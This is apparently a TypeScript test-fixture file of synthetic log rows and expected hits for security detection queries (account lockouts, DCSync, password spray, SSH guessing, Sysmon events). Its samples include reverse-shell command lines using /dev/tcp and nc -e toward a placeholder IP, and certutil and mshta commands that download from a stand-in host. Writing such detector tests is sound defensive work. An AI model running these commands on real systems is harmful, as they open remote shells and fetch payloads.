import type { MadeCase, MadeRow, MadeTable } from '../made-rows.ts';

const at = '2025-11-05T10:00:00Z';
const minute = (n: number): string => new Date(Date.parse(at) + n * 60_000).toISOString();
const hour = (n: number): string => minute(60 * n);

const events = (rows: readonly MadeRow[], also = ''): { SecurityEvent: MadeTable } => ({
  SecurityEvent: { rows: rows.map((row) => ({ TimeGenerated: at, ...row })), also },
});
const started = (CommandLine: string, image: string): MadeRow => ({
  EventID: 4688,
  NewProcessName: `C:\\Windows\\System32\\${image}`,
  CommandLine,
});
const syslog = (rows: readonly MadeRow[]): { Syslog: MadeTable } => ({
  Syslog: {
    rows: rows.map((row) => ({ TimeGenerated: at, Computer: 'web1', Facility: 'auth', ...row })),
    also: 'ProcessName SeverityLevel SyslogMessage ProcessID:int HostIP',
  },
});
const commands = (lines: readonly string[]): { LinuxAuditLog: MadeTable } => ({
  LinuxAuditLog: {
    rows: lines.map((cmdline) => ({
      TimeGenerated: at,
      Computer: 'web1',
      RecordType: 'EXECVE',
      AuditID: '1:2',
      cmdline,
    })),
    also: 'a0 a1 a2 a3',
  },
});
const sysmon = (rows: readonly MadeRow[], also: string): { Sysmon: MadeTable } => ({
  Sysmon: { rows: rows.map((row) => ({ TimeGenerated: at, Computer: 'ws1', ...row })), also },
});
const inGuid = '{11111111-0000-0000-0000-000000000001}';

/** Queries of hosts whose finds the sample investigation does not hold. */
export const hostCases: readonly MadeCase[] = [
  {
    query: 'WindowsSecurity.account_lockouts',
    tables: events(
      [{ EventID: 4740, TargetAccount: 'X\\eve', TargetDomainName: 'WS9' }, { EventID: 4625 }],
      'Computer',
    ),
    rows: 1,
    word: 'WS9',
  },
  {
    query: 'WindowsSecurity.asrep_roasting',
    tables: events(
      ['0', '2'].map((type) => ({
        EventID: 4768,
        TargetUserName: `user${type}`,
        IpAddress: '10.0.0.5',
        EventData: `<Data Name="TicketEncryptionType">0x17</Data><Data Name="PreAuthType">${type}</Data>`,
      })),
    ),
    rows: 1,
    word: 'user0',
  },
  {
    query: 'WindowsSecurity.dcsync_by_account',
    tables: events(
      ['eve', 'DC01$'].map((SubjectUserName) => ({
        EventID: 4662,
        SubjectUserName,
        SubjectAccount: `X\\${SubjectUserName}`,
        Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
      })),
      'Computer SubjectLogonId',
    ),
    rows: 1,
    word: 'eve',
  },
  {
    query: 'WindowsSecurity.get_host_logon',
    values: { host_name: 'ws1', logon_session_id: '0x3E8' },
    tables: events(
      ['0x3e8', '0x3e9'].map((id) => ({
        EventID: 4624,
        Computer: 'ws1.x.example',
        TargetLogonId: id,
      })),
      `TenantId SourceComputerId Account TargetUserName TargetDomainName TargetUserSid LogonType:int LogonTypeName
       LogonProcessName AuthenticationPackageName IpAddress WorkstationName Status SubStatus SubjectUserName
       SubjectDomainName SubjectUserSid`,
    ),
    rows: 1,
    word: '0x3e8',
  },
  {
    query: 'WindowsSecurity.logon_failure_anomalies',
    tables: events(
      Array.from({ length: 40 }, (_, i) => ({
        TimeGenerated: i < 10 ? hour(24 * i) : minute(i),
        EventID: 4625,
        Computer: 'ws1',
      })),
    ),
    rows: 1,
    word: 'ws1',
  },
  {
    query: 'WindowsSecurity.lolbin_downloads',
    tables: events(
      [
        started('certutil.exe -urlcache -f http://x.example/a a.exe', 'certutil.exe'),
        started('mshta.exe https://x.example/a.hta', 'mshta.exe'),
        started('powershell.exe -c Get-Date', 'powershell.exe'),
      ],
      'Computer Account ParentProcessName',
    ),
    rows: 2,
    word: 'urlcache',
  },
  {
    query: 'WindowsSecurity.password_spray_by_ip',
    values: { min_accounts: 4 },
    tables: events(
      ['ada', 'ben', 'cy', 'di', 'di'].map((TargetUserName, i) => ({
        TimeGenerated: minute(i),
        EventID: i === 4 ? 4624 : 4625,
        TargetUserName,
        IpAddress: '10.0.0.9',
        Computer: 'ws1',
      })),
    ),
    rows: 1,
    word: '["di"]',
  },
  {
    query: 'LinuxSyslog.ssh_guessing_then_success',
    values: { min_failures: 5 },
    tables: syslog([
      ...Array.from({ length: 5 }, (_, i) => ({
        TimeGenerated: minute(i),
        ProcessName: 'sshd',
        SyslogMessage: 'Failed password for invalid user git from 203.0.113.9 port 4242 ssh2',
      })),
      {
        TimeGenerated: minute(9),
        ProcessName: 'sshd',
        SyslogMessage: 'Accepted password for deploy from 203.0.113.9 port 4243 ssh2',
      },
    ]),
    rows: 1,
    word: 'deploy',
  },
  {
    query: 'LinuxSyslog.ssh_from_new_address',
    values: { start: '2025-11-05' },
    tables: syslog(
      [
        ['2025-11-01T10:00:00Z', '10.0.0.1'],
        [at, '10.0.0.1'],
        [at, '10.0.0.2'],
      ].map(([TimeGenerated = '', address]) => ({
        TimeGenerated,
        ProcessName: 'sshd',
        SyslogMessage: `Accepted publickey for ann from ${address} port 22 ssh2: RSA SHA256:x`,
      })),
    ),
    rows: 1,
    word: '10.0.0.2',
  },
  {
    query: 'LinuxSyslog.notable_events',
    values: { host_name: 'web1' },
    tables: syslog([{ SeverityLevel: 'crit', SyslogMessage: 'disk' }, { SeverityLevel: 'info' }]),
    rows: 1,
    word: 'disk',
  },
  {
    query: 'LinuxSyslog.user_group_activity',
    values: { host_name: 'web1' },
    tables: syslog([
      {
        ProcessName: 'useradd',
        SyslogMessage: 'new user: name=eve, UID=1007, GID=1007, home=/home/eve, shell=/bin/sh',
      },
      { ProcessName: 'usermod', SyslogMessage: "add 'eve' to group 'sudo'" },
      { ProcessName: 'sshd', SyslogMessage: 'Accepted password for eve' },
    ]),
    rows: 2,
    word: '1007',
  },
  {
    query: 'LinuxSyslog.squid_activity',
    values: { host_name: 'web1', user: 'ann' },
    tables: syslog(
      ['ann', 'bob'].map((user) => ({
        ProcessName: 'squid[9]',
        SyslogMessage: `1699999999.123    45 10.0.0.7 TCP_MISS/200 1234 GET http://x.example/a ${user} DIRECT/192.0.2.1 text/html`,
      })),
    ),
    rows: 1,
    word: 'http://x.example/a',
  },
  {
    query: 'LinuxSyslog.sysmon_process_events',
    values: { host_name: 'web1' },
    tables: syslog([
      {
        ProcessName: 'sysmon',
        SyslogMessage:
          '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593}"/><EventID>1</EventID><EventRecordID>7</EventRecordID><Computer>web1</Computer></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl http://x.example</Data><Data Name="User">eve</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="Hashes">SHA256=abc</Data></EventData></Event>',
      },
      { ProcessName: 'sshd', SyslogMessage: 'Accepted password for eve' },
    ]),
    rows: 1,
    word: 'curl http://x.example',
  },
  {
    query: 'LinuxAudit.reverse_shells',
    tables: commands([
      'bash -i >& /dev/tcp/192.0.2.9/443 0>&1',
      'nc -e /bin/sh 192.0.2.9 1',
      'ls -l',
    ]),
    rows: 2,
    word: '/dev/tcp',
  },
  {
    query: 'LinuxAudit.audit_rules_changed',
    tables: {
      LinuxAuditLog: {
        rows: [
          { TimeGenerated: at, RecordType: 'CONFIG_CHANGE', op: 'remove_rule' },
          { TimeGenerated: at, RecordType: 'SYSCALL' },
        ],
        also: 'Computer audit_user key res RawRecord',
      },
    },
    rows: 1,
    word: 'remove_rule',
  },
  {
    query: 'LinuxAudit.auditd_all',
    tables: {
      AuditLog_CL: {
        rows: [
          'type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59',
          'type=EXECVE msg=audit(1700000000.123:42): argc=1 a0="id"',
        ].map((RawData) => ({ TimeGenerated: at, RawData, Computer: 'web1', TenantId: 't' })),
      },
    },
    rows: 1,
    word: 'EXECVE',
  },
  {
    query: 'Sysmon.list_events_of_process',
    values: { process_guid: inGuid },
    tables: sysmon(
      [
        { EventID: 22, ProcessGuid: inGuid, QueryName: 'x.example', QueryResults: '192.0.2.1' },
        { EventID: 10, SourceProcessGUID: inGuid, TargetImage: 'lsass.exe' },
        { EventID: 1, ProcessGuid: '{other}' },
      ],
      `Activity Image CommandLine DestinationHostname DestinationIp DestinationPort:long ImageLoaded GrantedAccess
       TargetFilename TargetObject Details`,
    ),
    rows: 2,
    word: 'x.example = 192.0.2.1',
  },
  {
    query: 'Sysmon.remote_threads',
    tables: sysmon(
      [
        { EventID: 8, SourceImage: 'C:\\x\\a.exe', TargetImage: 'C:\\Windows\\explorer.exe' },
        { EventID: 8, SourceImage: 'C:\\x\\b.exe', TargetImage: 'C:\\x\\b.exe' },
      ],
      '',
    ),
    rows: 1,
    word: 'explorer.exe',
  },
  {
    query: 'Sysmon.unsigned_modules',
    tables: sysmon(
      [
        {
          EventID: 7,
          ImageLoaded: 'C:\\x\\evil.dll',
          Signed: 'false',
          SignatureStatus: 'Unavailable',
        },
        { EventID: 7, ImageLoaded: 'C:\\x\\good.dll', Signed: 'true', SignatureStatus: 'Valid' },
      ],
      'Image Hashes',
    ),
    rows: 1,
    word: 'evil.dll',
  },
  {
    query: 'Sysmon.sysmon_changed',
    tables: sysmon([{ EventID: 16 }, { EventID: 1 }], 'Activity User'),
    rows: 1,
  },
  {
    query: 'Heartbeat.list_silent_hosts',
    tables: {
      Heartbeat: {
        rows: [
          { TimeGenerated: '2025-11-20T00:00:00Z', Computer: 'gone' },
          { TimeGenerated: '2025-11-30T20:00:00Z', Computer: 'here' },
        ],
        also: 'OSType ComputerIP',
      },
    },
    rows: 1,
    word: 'gone',
  },
  {
    query: 'Heartbeat.list_host_gaps',
    tables: {
      Heartbeat: {
        rows: [0, 1, 9, 10].map((n) => ({ TimeGenerated: hour(n), Computer: 'ws1' })),
      },
    },
    rows: 1,
    word: 'ws1',
  },
];
